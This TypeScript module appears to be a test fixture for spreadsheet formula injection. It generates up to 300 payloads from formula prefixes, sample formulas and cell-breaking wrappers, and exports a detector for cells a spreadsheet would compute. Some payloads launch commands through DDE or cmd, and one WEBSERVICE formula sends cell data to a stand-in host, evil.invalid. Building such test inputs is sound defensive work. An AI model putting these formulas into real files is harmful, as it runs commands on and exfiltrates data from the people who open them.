/** Three hundred texts that a spreadsheet would compute, or that would break out of their cell to be computed beside it. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const FORMULAS = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.invalid","x")', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.invalid/"&A1)', 'DDE("cmd";"/C calc";"x")', '5', 'A1', '"x"', '2,=3', '2;=3'];
/** How a text gets to the beginning of a cell. */
const BREAKS: ((formula: string) => string)[] = [
  (formula) => formula, (formula) => `","${formula}`, (formula) => `";"${formula}`, (formula) => `a;${formula};b`, (formula) => `a\t${formula}\tb`, (formula) => `a\r\n${formula}\r\nb`, (formula) => `a\n${formula}\nb`, (formula) => `"\r\n${formula},"`, (formula) => `a,${formula},b`,
];

export const formulaPayloads: readonly string[] = BREAKS.flatMap((broken) => FORMULAS.flatMap((formula) => STARTS.map((start) => broken(start + formula)))).filter((_, index) => index < 132 || index % 6 === 0).slice(0, 300);

/** A cell that a spreadsheet would compute: it begins so, and is no number. */
export const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
